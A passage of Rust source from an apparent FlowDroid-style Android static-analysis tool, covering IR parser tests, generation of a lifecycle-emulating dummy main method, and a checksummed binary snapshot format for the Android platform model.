    fn parses_constructor_names() {
        let p = parse_ok(
            r#"
class F {
  method <init>(x: int) -> void {
    let u: F
    u = new F
    specialinvoke u.<F: void <init>(int)>(x)
    return
  }
}
"#,
        );
        assert!(p.find_method("F", "<init>").is_some());
    }

    #[test]
    fn resource_refs_resolve() {
        let layout = crate::layout::Layout::parse(
            "main",
            r#"<L><EditText android:id="@+id/pwd" android:inputType="textPassword"/></L>"#,
        )
        .unwrap();
        let rt = ResourceTable::from_layouts([&layout]);
        let mut p = Program::new();
        let src = r#"
class G {
  method f() -> int {
    let x: int
    x = @id/pwd
    return x
  }
}
"#;
        parse_jasm(&mut p, &rt, src).unwrap();
    }

    #[test]
    fn unresolved_resource_is_an_error() {
        let mut p = Program::new();
        let rt = ResourceTable::new();
        let err = parse_jasm(
            &mut p,
            &rt,
            "class H { method f() -> void { let x: int\n x = @id/nope\n return } }",
        )
        .unwrap_err();
        assert!(err.message.contains("unresolved resource"), "{err}");
    }

    #[test]
    fn unknown_local_is_an_error() {
        let mut p = Program::new();
        let rt = ResourceTable::new();
        let err =
            parse_jasm(&mut p, &rt, "class J { method f() -> void { x = 1\n return } }")
                .unwrap_err();
        assert!(err.message.contains("unknown local"), "{err}");
    }

    #[test]
    fn phantom_field_access_autodeclares() {
        let p = parse_ok(
            r#"
class K {
  method f() -> java.lang.Object {
    let x: java.lang.Object
    x = static android.os.Build.MODEL
    return x
  }
}
"#,
        );
        let build = p.find_class("android.os.Build").unwrap();
        assert!(!p.class(build).is_declared());
        assert_eq!(p.class(build).fields().len(), 1);
    }

    #[test]
    fn negative_ints_and_strings() {
        let p = parse_ok(
            "class L { method f() -> int { let x: int\n x = -5\n let s: java.lang.String\n s = \"a\\nb\"\n return x } }",
        );
        assert!(p.find_method("L", "f").is_some());
    }

    #[test]
    fn arg_count_mismatch_is_an_error() {
        let mut p = Program::new();
        let rt = ResourceTable::new();
        let err = parse_jasm(
            &mut p,
            &rt,
            "class M { method f() -> void { staticinvoke <X: void g(int)>()\n return } }",
        )
        .unwrap_err();
        assert!(err.message.contains("parameters"), "{err}");
    }

    #[test]
    fn line_numbers_are_recorded() {
        let p = parse_ok("class N {\n  method f() -> void {\n    nop\n    return\n  }\n}");
        let m = p.find_method("N", "f").unwrap();
        let body = p.method(m).body().unwrap();
        assert_eq!(body.line(0), 3);
        assert_eq!(body.line(1), 4);
    }
}
