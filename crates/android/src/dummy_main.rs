//! Dummy-main generation (paper §3, Figure 1).
//!
//! Android apps have no `main`; the framework drives components through
//! their lifecycles and invokes registered callbacks. The dummy main
//! emulates this: components execute in an arbitrary sequential order
//! (with repetition), every lifecycle transition the framework allows is
//! present, and callbacks fire in any order — all guarded by *opaque
//! predicates* the analysis cannot evaluate, so both branches of every
//! decision are analyzed. Because IFDS joins at control-flow merge
//! points, this compact encoding covers all interleavings without path
//! enumeration.

use crate::component::{CallbackReceiver, ComponentModel, EntryPointModel};
use crate::platform::PlatformInfo;
use flowdroid_frontend::manifest::ComponentKind;
use flowdroid_ir::{
    ClassId, Constant, FxHashMap, Local, MethodBuilder, MethodId, Operand, Program, Type,
};

/// Generates the dummy main for `model` into `program`.
///
/// `tag` uniquifies the generated class name so multiple apps can share
/// one program (`dummy.Main_<tag>.main`).
///
/// # Panics
///
/// Panics if a dummy main with the same `tag` was already generated in
/// this program.
pub fn generate_dummy_main(
    program: &mut Program,
    platform: &PlatformInfo,
    model: &EntryPointModel,
    tag: &str,
) -> MethodId {
    let class_name = format!("dummy.Main_{tag}");
    let cls = program.declare_class(&class_name, Some("java.lang.Object"), &[]);
    let mut b = MethodBuilder::new_static_on(program, cls, "main", vec![], Type::Void);

    // 1. Static initializers run first (Soot's assumption).
    for &clinit in &model.static_initializers {
        let m = b.program().method(clinit);
        let class = m.class();
        let class_name = b.program().class_name(class).to_owned();
        b.call_static(None, &class_name, "<clinit>", vec![], Type::Void, vec![]);
    }

    // 2. Arbitrary sequential component interleaving with repetition.
    let top = b.mark();
    let mut comp_labels = Vec::new();
    for _ in &model.components {
        let l = b.fresh_label();
        b.if_opaque(l);
        comp_labels.push(l);
    }
    let end = b.fresh_label();
    b.goto(end);
    for (comp, label) in model.components.iter().zip(comp_labels) {
        b.bind(label);
        emit_component(&mut b, platform, comp);
        b.goto(top);
    }
    b.bind(end);
    b.ret(None);
    b.finish()
}

/// Default operand for a parameter type: `null` for references, `0` for
/// primitives.
fn default_arg(ty: &Type) -> Operand {
    if ty.is_reference() {
        Operand::Const(Constant::Null)
    } else {
        Operand::Const(Constant::Int(0))
    }
}

/// Allocates an instance of `cls`, calling its no-argument constructor
/// when one with a body is declared.
fn alloc_instance(b: &mut MethodBuilder<'_>, cls: ClassId, name_hint: &str) -> Local {
    let ty = Type::Ref(cls);
    let l = b.local(name_hint, ty);
    let cname = b.program().class_name(cls).to_owned();
    b.new_object_uninit(l, &cname);
    // Call the declared zero-arg constructor, if any.
    let has_init = {
        let p = b.program();
        match p.lookup_symbol("<init>") {
            Some(sym) => p.class(cls).methods().iter().any(|&m| {
                let md = p.method(m);
                md.name() == sym && md.param_count() == 0 && md.has_body()
            }),
            None => false,
        }
    };
    if has_init {
        b.call_special(None, l, &cname, "<init>", vec![], Type::Void, vec![]);
    }
    l
}

/// Emits a virtual call to the lifecycle method named `name` on the
/// component instance, if the component overrides it.
fn emit_lifecycle_call(
    b: &mut MethodBuilder<'_>,
    comp: &ComponentModel,
    by_name: &FxHashMap<String, MethodId>,
    instance: Local,
    name: &str,
) {
    let Some(&m) = by_name.get(name) else { return };
    let (params, ret, cname) = {
        let p = b.program();
        let md = p.method(m);
        (
            md.subsig().params.clone(),
            md.subsig().ret.clone(),
            p.class_name(comp.class).to_owned(),
        )
    };
    let args: Vec<Operand> = params.iter().map(default_arg).collect();
    b.call_virtual(None, instance, &cname, name, params, ret, args);
}

fn lifecycle_by_name(b: &mut MethodBuilder<'_>, comp: &ComponentModel) -> FxHashMap<String, MethodId> {
    let p = b.program();
    comp.lifecycle
        .iter()
        .map(|&m| (p.str(p.method(m).name()).to_owned(), m))
        .collect()
}

/// Emits the running-phase callback loop: each callback can fire any
/// number of times in any order.
fn emit_callback_loop(b: &mut MethodBuilder<'_>, comp: &ComponentModel, instance: Local) {
    if comp.callbacks.is_empty() {
        return;
    }
    // Fresh listener instances are allocated once per component visit.
    let mut fresh: FxHashMap<ClassId, Local> = FxHashMap::default();
    for cb in &comp.callbacks {
        if let CallbackReceiver::Fresh(cls) = cb.receiver {
            if !fresh.contains_key(&cls) {
                let hint = format!("listener{}", fresh.len());
                let l = alloc_instance(b, cls, &hint);
                fresh.insert(cls, l);
            }
        }
    }
    let loop_top = b.mark();
    let mut labels = Vec::new();
    for _ in &comp.callbacks {
        let l = b.fresh_label();
        b.if_opaque(l);
        labels.push(l);
    }
    let done = b.fresh_label();
    b.goto(done);
    for (cb, label) in comp.callbacks.iter().zip(labels) {
        b.bind(label);
        let receiver = match cb.receiver {
            CallbackReceiver::Component => instance,
            CallbackReceiver::Fresh(cls) => fresh[&cls],
        };
        let (name, params, ret, cname) = {
            let p = b.program();
            let md = p.method(cb.method);
            (
                p.str(md.name()).to_owned(),
                md.subsig().params.clone(),
                md.subsig().ret.clone(),
                p.class_name(md.class()).to_owned(),
            )
        };
        let args: Vec<Operand> = params.iter().map(default_arg).collect();
        b.call_virtual(None, receiver, &cname, &name, params, ret, args);
        b.goto(loop_top);
    }
    b.bind(done);
    b.nop();
}

fn emit_component(b: &mut MethodBuilder<'_>, platform: &PlatformInfo, comp: &ComponentModel) {
    let _ = platform;
    let by_name = lifecycle_by_name(b, comp);
    let hint = format!("c{}", comp.class.index());
    let instance = alloc_instance(b, comp.class, &hint);
    match comp.kind {
        ComponentKind::Activity => {
            emit_lifecycle_call(b, comp, &by_name, instance, "onCreate");
            let started = b.mark();
            emit_lifecycle_call(b, comp, &by_name, instance, "onStart");
            emit_lifecycle_call(b, comp, &by_name, instance, "onRestoreInstanceState");
            let resumed = b.mark();
            emit_lifecycle_call(b, comp, &by_name, instance, "onResume");
            emit_callback_loop(b, comp, instance);
            emit_lifecycle_call(b, comp, &by_name, instance, "onPause");
            emit_lifecycle_call(b, comp, &by_name, instance, "onSaveInstanceState");
            // Back to the resumed state without stopping…
            b.if_opaque(resumed);
            emit_lifecycle_call(b, comp, &by_name, instance, "onStop");
            // …or restart…
            let destroy = b.fresh_label();
            b.if_opaque(destroy);
            emit_lifecycle_call(b, comp, &by_name, instance, "onRestart");
            b.goto(started);
            // …or destroy.
            b.bind(destroy);
            b.nop();
            emit_lifecycle_call(b, comp, &by_name, instance, "onDestroy");
        }
        ComponentKind::Service => {
            emit_lifecycle_call(b, comp, &by_name, instance, "onCreate");
            let running = b.mark();
            let stop = b.fresh_label();
            b.if_opaque(stop);
            emit_lifecycle_call(b, comp, &by_name, instance, "onStartCommand");
            emit_lifecycle_call(b, comp, &by_name, instance, "onBind");
            emit_callback_loop(b, comp, instance);
            b.goto(running);
            b.bind(stop);
            b.nop();
            emit_lifecycle_call(b, comp, &by_name, instance, "onDestroy");
        }
        ComponentKind::BroadcastReceiver => {
            let receive = b.mark();
            emit_lifecycle_call(b, comp, &by_name, instance, "onReceive");
            emit_callback_loop(b, comp, instance);
            b.if_opaque(receive);
        }
        ComponentKind::ContentProvider => {
            emit_lifecycle_call(b, comp, &by_name, instance, "onCreate");
            let serving = b.mark();
            let done = b.fresh_label();
            b.if_opaque(done);
            emit_lifecycle_call(b, comp, &by_name, instance, "query");
            emit_lifecycle_call(b, comp, &by_name, instance, "insert");
            emit_lifecycle_call(b, comp, &by_name, instance, "update");
            emit_lifecycle_call(b, comp, &by_name, instance, "delete");
            emit_callback_loop(b, comp, instance);
            b.goto(serving);
            b.bind(done);
            b.nop();
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::component::{CallbackAssociation, EntryPointModel};
    use crate::platform::install_platform;
    use flowdroid_callgraph::{CallGraph, CgAlgorithm};
    use flowdroid_frontend::App;
    use flowdroid_ir::ProgramPrinter;

    const MANIFEST: &str = r#"<manifest package="com.ex">
  <application>
    <activity android:name=".Main"/>
    <service android:name=".Work"/>
  </application>
</manifest>"#;

    const CODE: &str = r#"
class com.ex.Main extends android.app.Activity {
  method onCreate(b: android.os.Bundle) -> void { return }
  method onRestart() -> void { return }
  method onDestroy() -> void { return }
  method sendMessage(v: android.view.View) -> void { return }
}
class com.ex.Work extends android.app.Service {
  method onStartCommand(i: android.content.Intent, f: int, id: int) -> int { return 0 }
}
"#;

    const LAYOUT: &str =
        r#"<L><Button android:id="@+id/b" android:onClick="sendMessage"/></L>"#;

    const CODE_WITH_LAYOUT: &str = r#"
class com.ex.Main extends android.app.Activity {
  method onCreate(b: android.os.Bundle) -> void {
    virtualinvoke this.<android.app.Activity: void setContentView(int)>(@layout/main)
    return
  }
  method onRestart() -> void { return }
  method sendMessage(v: android.view.View) -> void { return }
}
class com.ex.Work extends android.app.Service {
  method onStartCommand(i: android.content.Intent, f: int, id: int) -> int { return 0 }
}
"#;

    #[test]
    fn dummy_main_reaches_all_lifecycle_methods() {
        let mut p = Program::new();
        let platform = install_platform(&mut p);
        let app = App::from_parts(&mut p, MANIFEST, &[], CODE).unwrap();
        let model = EntryPointModel::build(&mut p, &platform, &app, CallbackAssociation::PerComponent);
        let main = generate_dummy_main(&mut p, &platform, &model, "t1");
        let cg = CallGraph::build(&p, &[main], CgAlgorithm::Cha);
        for name in ["onCreate", "onRestart", "onDestroy", "onStartCommand"] {
            let found = cg.reachable_methods().iter().any(|&m| p.str(p.method(m).name()) == name);
            assert!(found, "{name} not reachable from dummy main");
        }
    }

    #[test]
    fn xml_callback_is_invoked_in_component_context() {
        let mut p = Program::new();
        let platform = install_platform(&mut p);
        let app =
            App::from_parts(&mut p, MANIFEST, &[("main", LAYOUT)], CODE_WITH_LAYOUT).unwrap();
        let model = EntryPointModel::build(&mut p, &platform, &app, CallbackAssociation::PerComponent);
        let main = generate_dummy_main(&mut p, &platform, &model, "t2");
        let cg = CallGraph::build(&p, &[main], CgAlgorithm::Cha);
        let send = p.find_method("com.ex.Main", "sendMessage").unwrap();
        assert!(cg.is_reachable(send), "XML onClick handler must be reachable");
        // It is called on the Main instance, from the dummy main.
        assert!(!cg.callers_of(send).is_empty());
    }

    #[test]
    fn lifecycle_structure_has_figure1_shape() {
        let mut p = Program::new();
        let platform = install_platform(&mut p);
        let app = App::from_parts(&mut p, MANIFEST, &[], CODE).unwrap();
        let model = EntryPointModel::build(&mut p, &platform, &app, CallbackAssociation::PerComponent);
        let main = generate_dummy_main(&mut p, &platform, &model, "t3");
        let text = ProgramPrinter::new(&p).method_to_string(main);
        // onRestart is guarded by an opaque branch and loops back.
        assert!(text.contains("onRestart"), "{text}");
        assert!(text.contains("if * goto"), "{text}");
        // Components loop back to the selector.
        let body = p.method(main).body().unwrap();
        assert!(body.len() > 10);
    }

    #[test]
    fn empty_app_yields_trivial_main() {
        let mut p = Program::new();
        let platform = install_platform(&mut p);
        let app = App::from_parts(
            &mut p,
            r#"<manifest package="e"><application/></manifest>"#,
            &[],
            "class e.X { method f() -> void { return } }",
        )
        .unwrap();
        let model = EntryPointModel::build(&mut p, &platform, &app, CallbackAssociation::PerComponent);
        let main = generate_dummy_main(&mut p, &platform, &model, "t4");
        let body = p.method(main).body().unwrap();
        assert!(body.len() <= 3, "selector + return only");
    }
}
