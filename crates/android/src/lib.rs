#![warn(missing_docs)]

//! The Android platform model and lifecycle machinery.
//!
//! The original FlowDroid does not analyze the Android framework
//! itself; it models it. This crate provides that model:
//!
//! * [`platform`] — stub class hierarchy for the framework API surface
//!   the benchmarks exercise (components, widgets, telephony, location,
//!   logging, SMS, preferences, collections, strings), the lifecycle
//!   method tables and the callback-interface registry;
//! * [`component`] — per-component models: which lifecycle methods a
//!   component overrides, which callbacks it registers (discovered
//!   iteratively to a fixed point, paper §3), which layouts it inflates;
//! * [`dummy_main`] — generation of the per-app dummy main method that
//!   emulates every possible interleaving of component lifecycles and
//!   callbacks using opaque predicates (paper Figure 1);
//! * [`permissions`] — reachability-based permission requirements and
//!   over-privilege reporting (the attack-surface companion analysis
//!   the paper's introduction motivates);
//! * [`snapshot`] — the versioned, checksummed `platform.fdps`
//!   serialization of the platform model, built once and shared
//!   read-only across analysis jobs by the daemon.

pub mod component;
pub mod dummy_main;
pub mod permissions;
pub mod platform;
pub mod snapshot;

pub use component::{CallbackAssociation, CallbackInfo, CallbackReceiver, ComponentModel, EntryPointModel};
pub use dummy_main::generate_dummy_main;
pub use permissions::{analyze_permissions, PermissionReport};
pub use platform::{install_platform, PlatformInfo};
pub use snapshot::{
    build_snapshot, decode_snapshot, encode_snapshot, load_snapshot, save_snapshot,
    PlatformSnapshot, SnapshotError,
};
