//! The `platform.fdps` snapshot: the platform model serialized once,
//! loaded at daemon boot, shared read-only across jobs.
//!
//! [`install_platform`](crate::install_platform) declares ~100 stub
//! classes into a fresh program; every analysis job used to pay that
//! cost again. A [`PlatformSnapshot`] freezes the result — the whole
//! platform [`Program`] plus the [`PlatformInfo`] handles — so the
//! daemon can decode it once (or build it once) and hand each job a
//! cheap clone.
//!
//! Layout (all integers little-endian, following the `summaries.fdss`
//! wire-format discipline):
//!
//! ```text
//! magic        4 bytes   "FDPS"
//! version      u32       currently 1
//! class_count  u32
//! per class (in arena order, so decoding reproduces identical ids):
//!   name         str
//!   flags        u8      1=interface 2=abstract 4=declared
//!   super        u8 0/1, then str (name) if present
//!   iface_count  u32 + strs
//! field_count  u32
//! per field (arena order): class u32, name str, desc str, static u8
//! method_count u32
//! per method (arena order):
//!   class u32, name str, ret desc str, param_count u32 + desc strs,
//!   flags u8 (1=static 2=native 4=abstract)
//! info: object/activity/service/receiver/provider u32,
//!   callback_count u32 + u32s, stub_count u32 + sorted u32s
//! checksum     u64       FNV-1a 64 of every preceding byte
//! ```
//!
//! Types are encoded as SDEX-style JVM descriptors (`I`, `Lfoo;`,
//! `[J`). Every decode path is bounds-checked and returns
//! [`SnapshotError::Corrupt`] instead of panicking; callers fall back
//! to an eager [`install_platform`](crate::install_platform) on any
//! error, so a damaged snapshot file degrades performance, never
//! correctness.

use crate::platform::{install_platform, PlatformInfo};
use flowdroid_frontend::sdex::{parse_type_descriptor, type_descriptor};
use flowdroid_ir::{ClassId, FxHashSet, MethodId, Program, ProgramBase, SubSig};
use std::fmt;
use std::path::Path;
use std::sync::Arc;

/// File magic.
pub const MAGIC: [u8; 4] = *b"FDPS";

/// Current snapshot format version.
pub const VERSION: u32 = 1;

/// A frozen platform model: the stub program and its handles.
///
/// The program lives behind a shared [`ProgramBase`] so each job takes a
/// copy-on-write [`PlatformSnapshot::overlay_program`] instead of a deep
/// clone; `fingerprint` is the snapshot's wire checksum, used to key
/// derived caches (callgraphs, entry-point models) on the exact platform
/// bytes they were computed against.
#[derive(Debug)]
pub struct PlatformSnapshot {
    /// The frozen platform declarations, shared across jobs.
    pub base: Arc<ProgramBase>,
    /// Handles into that program.
    pub info: PlatformInfo,
    /// FNV-1a 64 checksum of the encoded snapshot (the wire trailer).
    pub fingerprint: u64,
}

impl PlatformSnapshot {
    /// A cheap job-local copy-on-write program over the shared platform
    /// base. Arena ids and symbols are numerically identical to a deep
    /// clone, so analysis output cannot depend on which one a job uses.
    pub fn overlay_program(&self) -> Program {
        Program::overlay(Arc::clone(&self.base))
    }

    /// A flat deep copy of the platform program (the comparison path for
    /// determinism tests; jobs use [`PlatformSnapshot::overlay_program`]).
    pub fn deep_program(&self) -> Program {
        Program::thaw(&self.base)
    }
}

/// Errors raised while loading or decoding a snapshot.
#[derive(Debug)]
pub enum SnapshotError {
    /// Filesystem error.
    Io(std::io::Error),
    /// Structurally invalid snapshot bytes (truncation, bit rot,
    /// version mismatch, bad indices).
    Corrupt(String),
}

impl fmt::Display for SnapshotError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            SnapshotError::Io(e) => write!(f, "snapshot io error: {e}"),
            SnapshotError::Corrupt(m) => write!(f, "corrupt snapshot: {m}"),
        }
    }
}

impl std::error::Error for SnapshotError {}

impl From<std::io::Error> for SnapshotError {
    fn from(e: std::io::Error) -> Self {
        SnapshotError::Io(e)
    }
}

/// FNV-1a 64-bit hash (same guard as the summary store: truncation and
/// bit rot, not adversaries).
fn fnv1a64(bytes: &[u8]) -> u64 {
    let mut h: u64 = 0xcbf2_9ce4_8422_2325;
    for &b in bytes {
        h ^= u64::from(b);
        h = h.wrapping_mul(0x0000_0100_0000_01b3);
    }
    h
}

/// Builds the platform snapshot from scratch (a fresh program +
/// [`install_platform`](crate::install_platform)).
pub fn build_snapshot() -> PlatformSnapshot {
    let mut program = Program::new();
    let info = install_platform(&mut program);
    let bytes = encode_parts(&program, &info);
    let fingerprint = u64::from_le_bytes(bytes[bytes.len() - 8..].try_into().unwrap());
    PlatformSnapshot { base: program.freeze(), info, fingerprint }
}

// ================= encoding =================

struct Writer {
    buf: Vec<u8>,
}

impl Writer {
    fn u8(&mut self, v: u8) {
        self.buf.push(v);
    }

    fn u32(&mut self, v: u32) {
        self.buf.extend_from_slice(&v.to_le_bytes());
    }

    fn str(&mut self, s: &str) {
        self.u32(u32::try_from(s.len()).expect("string too long for snapshot"));
        self.buf.extend_from_slice(s.as_bytes());
    }
}

/// Encodes a snapshot to `platform.fdps` bytes.
pub fn encode_snapshot(snap: &PlatformSnapshot) -> Vec<u8> {
    encode_parts(&snap.overlay_program(), &snap.info)
}

fn encode_parts(p: &Program, info: &PlatformInfo) -> Vec<u8> {
    let mut w = Writer { buf: Vec::new() };
    w.buf.extend_from_slice(&MAGIC);
    w.u32(VERSION);

    w.u32(u32::try_from(p.class_count()).expect("class count"));
    for c in p.classes() {
        w.str(p.str(c.name()));
        let mut flags = 0u8;
        if c.is_interface() {
            flags |= 1;
        }
        if c.is_abstract() {
            flags |= 2;
        }
        if c.is_declared() {
            flags |= 4;
        }
        w.u8(flags);
        match c.superclass() {
            Some(s) => {
                w.u8(1);
                let name = p.class_name(s).to_owned();
                w.str(&name);
            }
            None => w.u8(0),
        }
        w.u32(u32::try_from(c.interfaces().len()).expect("iface count"));
        for &i in c.interfaces() {
            let name = p.class_name(i).to_owned();
            w.str(&name);
        }
    }

    w.u32(u32::try_from(p.field_count()).expect("field count"));
    for f in p.fields() {
        w.u32(u32::try_from(f.class().index()).expect("class id"));
        w.str(p.str(f.name()));
        w.str(&type_descriptor(p, f.ty()));
        w.u8(u8::from(f.is_static()));
    }

    w.u32(u32::try_from(p.method_count()).expect("method count"));
    for m in p.methods() {
        w.u32(u32::try_from(m.class().index()).expect("class id"));
        w.str(p.str(m.name()));
        w.str(&type_descriptor(p, &m.subsig().ret));
        w.u32(u32::try_from(m.subsig().params.len()).expect("param count"));
        for t in &m.subsig().params {
            w.str(&type_descriptor(p, t));
        }
        let mut flags = 0u8;
        if m.is_static() {
            flags |= 1;
        }
        if m.is_native() {
            flags |= 2;
        }
        if m.is_abstract() {
            flags |= 4;
        }
        w.u8(flags);
    }

    for id in [info.object, info.activity, info.service, info.receiver, info.provider] {
        w.u32(u32::try_from(id.index()).expect("class id"));
    }
    w.u32(u32::try_from(info.callback_interfaces.len()).expect("callback count"));
    for &c in &info.callback_interfaces {
        w.u32(u32::try_from(c.index()).expect("class id"));
    }
    let mut stubs: Vec<u32> =
        info.stub_methods.iter().map(|m| u32::try_from(m.index()).expect("method id")).collect();
    stubs.sort_unstable();
    w.u32(u32::try_from(stubs.len()).expect("stub count"));
    for s in stubs {
        w.u32(s);
    }

    let checksum = fnv1a64(&w.buf);
    w.buf.extend_from_slice(&checksum.to_le_bytes());
    w.buf
}

// ================= decoding =================

struct Reader<'a> {
    bytes: &'a [u8],
    pos: usize,
}

impl<'a> Reader<'a> {
    fn corrupt<T>(&self, msg: impl Into<String>) -> Result<T, SnapshotError> {
        Err(SnapshotError::Corrupt(format!("{} (at byte {})", msg.into(), self.pos)))
    }

    fn take(&mut self, n: usize) -> Result<&'a [u8], SnapshotError> {
        if self.bytes.len() - self.pos < n {
            return self.corrupt("unexpected end of file");
        }
        let s = &self.bytes[self.pos..self.pos + n];
        self.pos += n;
        Ok(s)
    }

    fn u8(&mut self) -> Result<u8, SnapshotError> {
        Ok(self.take(1)?[0])
    }

    fn u32(&mut self) -> Result<u32, SnapshotError> {
        let b = self.take(4)?;
        Ok(u32::from_le_bytes([b[0], b[1], b[2], b[3]]))
    }

    /// Reads a count prefixing elements of at least `min_elem_size`
    /// bytes, rejecting counts the remaining input cannot hold.
    fn count(&mut self, min_elem_size: usize) -> Result<usize, SnapshotError> {
        let n = self.u32()? as usize;
        if n.saturating_mul(min_elem_size) > self.bytes.len() - self.pos {
            return self.corrupt("count exceeds remaining input");
        }
        Ok(n)
    }

    fn str(&mut self) -> Result<String, SnapshotError> {
        let len = self.u32()? as usize;
        if len > self.bytes.len() - self.pos {
            return self.corrupt("string length exceeds remaining input");
        }
        let bytes = self.take(len)?;
        match String::from_utf8(bytes.to_vec()) {
            Ok(s) => Ok(s),
            Err(_) => self.corrupt("string is not valid UTF-8"),
        }
    }
}

/// Decodes `platform.fdps` bytes into a snapshot.
///
/// Classes, fields and methods are replayed in arena order, so the
/// resulting ids are identical to the program [`encode_snapshot`] read
/// from — and therefore to a fresh
/// [`install_platform`](crate::install_platform).
///
/// # Errors
///
/// Returns [`SnapshotError::Corrupt`] on bad magic, version mismatch,
/// checksum mismatch, truncation or any structural inconsistency.
pub fn decode_snapshot(bytes: &[u8]) -> Result<PlatformSnapshot, SnapshotError> {
    if bytes.len() < 16 || bytes[..4] != MAGIC {
        return Err(SnapshotError::Corrupt("bad magic".into()));
    }
    let payload_end = bytes.len() - 8;
    let stored = u64::from_le_bytes(bytes[payload_end..].try_into().unwrap());
    if fnv1a64(&bytes[..payload_end]) != stored {
        return Err(SnapshotError::Corrupt("checksum mismatch".into()));
    }
    let mut r = Reader { bytes: &bytes[..payload_end], pos: 4 };
    let version = r.u32()?;
    if version != VERSION {
        return Err(SnapshotError::Corrupt(format!("unsupported version {version}")));
    }

    struct ClassRec {
        flags: u8,
        superclass: Option<String>,
        interfaces: Vec<String>,
    }

    let nclasses = r.count(6)?;
    let mut program = Program::new();
    let mut recs = Vec::with_capacity(nclasses);
    let mut names = Vec::with_capacity(nclasses);
    for i in 0..nclasses {
        let name = r.str()?;
        let flags = r.u8()?;
        let superclass = if r.u8()? == 1 { Some(r.str()?) } else { None };
        let nifaces = r.count(4)?;
        let mut interfaces = Vec::with_capacity(nifaces);
        for _ in 0..nifaces {
            interfaces.push(r.str()?);
        }
        // Create the class now so arena ids follow record order exactly.
        let cid = program.class_id(&name);
        if cid.index() != i {
            return r.corrupt(format!("duplicate class name `{name}`"));
        }
        names.push(name);
        recs.push(ClassRec { flags, superclass, interfaces });
    }
    // Declare after all ids exist: declaration only references known
    // names, so no new arena slots appear.
    for (i, rec) in recs.iter().enumerate() {
        if rec.flags & 4 == 0 {
            if rec.flags & 1 != 0 || rec.superclass.is_some() || !rec.interfaces.is_empty() {
                return r.corrupt("phantom class with declaration data");
            }
            continue;
        }
        let ifaces: Vec<&str> = rec.interfaces.iter().map(String::as_str).collect();
        let cid = if rec.flags & 1 != 0 {
            program.declare_interface(&names[i], &ifaces)
        } else {
            program.declare_class(&names[i], rec.superclass.as_deref(), &ifaces)
        };
        if rec.flags & 2 != 0 {
            program.set_abstract(cid, true);
        }
    }
    if program.class_count() != nclasses {
        return r.corrupt("class declarations referenced unknown classes");
    }

    let class_at = |idx: u32| -> Result<ClassId, SnapshotError> {
        if (idx as usize) < nclasses {
            Ok(ClassId::from_index(idx as usize))
        } else {
            Err(SnapshotError::Corrupt(format!("class index {idx} out of range")))
        }
    };

    let nfields = r.count(10)?;
    for i in 0..nfields {
        let class = class_at(r.u32()?)?;
        let name = r.str()?;
        let desc = r.str()?;
        let is_static = match r.u8()? {
            0 => false,
            1 => true,
            _ => return r.corrupt("bad field static flag"),
        };
        let Some(ty) = parse_type_descriptor(&mut program, &desc) else {
            return r.corrupt(format!("bad field descriptor `{desc}`"));
        };
        // declare_field panics on duplicates; reject corrupt input first.
        // A name absent from the interner cannot clash with anything.
        if let Some(sym) = program.lookup_symbol(&name) {
            if program.class(class).field_by_name(sym).is_some() {
                return r.corrupt(format!("duplicate field `{name}`"));
            }
        }
        let fid = program.declare_field(class, &name, ty, is_static);
        if fid.index() != i {
            return r.corrupt("field arena order mismatch");
        }
    }

    let nmethods = r.count(14)?;
    for i in 0..nmethods {
        let class = class_at(r.u32()?)?;
        let name = r.str()?;
        let ret_desc = r.str()?;
        let Some(ret) = parse_type_descriptor(&mut program, &ret_desc) else {
            return r.corrupt(format!("bad return descriptor `{ret_desc}`"));
        };
        let nparams = r.count(5)?;
        let mut params = Vec::with_capacity(nparams);
        for _ in 0..nparams {
            let d = r.str()?;
            let Some(t) = parse_type_descriptor(&mut program, &d) else {
                return r.corrupt(format!("bad parameter descriptor `{d}`"));
            };
            params.push(t);
        }
        let flags = r.u8()?;
        if flags > 7 {
            return r.corrupt("bad method flags");
        }
        // declare_method panics on duplicate subsignatures; reject
        // corrupt input first.
        if let Some(sym) = program.lookup_symbol(&name) {
            let subsig = SubSig { name: sym, params: params.clone(), ret: ret.clone() };
            if program.class(class).method_by_subsig(&subsig).is_some() {
                return r.corrupt(format!("duplicate method `{name}`"));
            }
        }
        let mid = program.declare_method(class, &name, params, ret, flags & 1 != 0);
        if mid.index() != i {
            return r.corrupt("method arena order mismatch");
        }
        if flags & 2 != 0 {
            program.set_native(mid, true);
        }
        if flags & 4 != 0 {
            program.set_method_abstract(mid, true);
        }
    }
    if program.class_count() != nclasses {
        return r.corrupt("descriptors referenced unknown classes");
    }

    let mut core = [ClassId::from_index(0); 5];
    for slot in core.iter_mut() {
        *slot = class_at(r.u32()?)?;
    }
    let ncallbacks = r.count(4)?;
    let mut callback_interfaces = Vec::with_capacity(ncallbacks);
    for _ in 0..ncallbacks {
        callback_interfaces.push(class_at(r.u32()?)?);
    }
    let nstubs = r.count(4)?;
    let mut stub_methods = FxHashSet::default();
    for _ in 0..nstubs {
        let idx = r.u32()? as usize;
        if idx >= nmethods {
            return r.corrupt(format!("stub method index {idx} out of range"));
        }
        stub_methods.insert(MethodId::from_index(idx));
    }
    if r.pos != payload_end {
        return r.corrupt("trailing bytes after snapshot payload");
    }

    let [object, activity, service, receiver, provider] = core;
    Ok(PlatformSnapshot {
        base: program.freeze(),
        info: PlatformInfo {
            object,
            activity,
            service,
            receiver,
            provider,
            callback_interfaces,
            stub_methods,
        },
        fingerprint: stored,
    })
}

/// Writes a snapshot to `path` (atomically via a sibling temp file).
pub fn save_snapshot(path: &Path, snap: &PlatformSnapshot) -> std::io::Result<()> {
    let bytes = encode_snapshot(snap);
    let tmp = path.with_extension("fdps.tmp");
    std::fs::write(&tmp, &bytes)?;
    std::fs::rename(&tmp, path)
}

/// Loads a snapshot from `path`.
///
/// # Errors
///
/// Returns [`SnapshotError`] on IO failures or corrupt contents.
pub fn load_snapshot(path: &Path) -> Result<PlatformSnapshot, SnapshotError> {
    let bytes = std::fs::read(path)?;
    decode_snapshot(&bytes)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn round_trip_reproduces_install_platform_ids() {
        let snap = build_snapshot();
        let bytes = encode_snapshot(&snap);
        let decoded = decode_snapshot(&bytes).expect("round trip");

        // Ids and counts are identical to a fresh install_platform.
        assert_eq!(decoded.base.class_count(), snap.base.class_count());
        assert_eq!(decoded.base.method_count(), snap.base.method_count());
        assert_eq!(decoded.base.field_count(), snap.base.field_count());
        assert_eq!(decoded.info.object, snap.info.object);
        assert_eq!(decoded.info.activity, snap.info.activity);
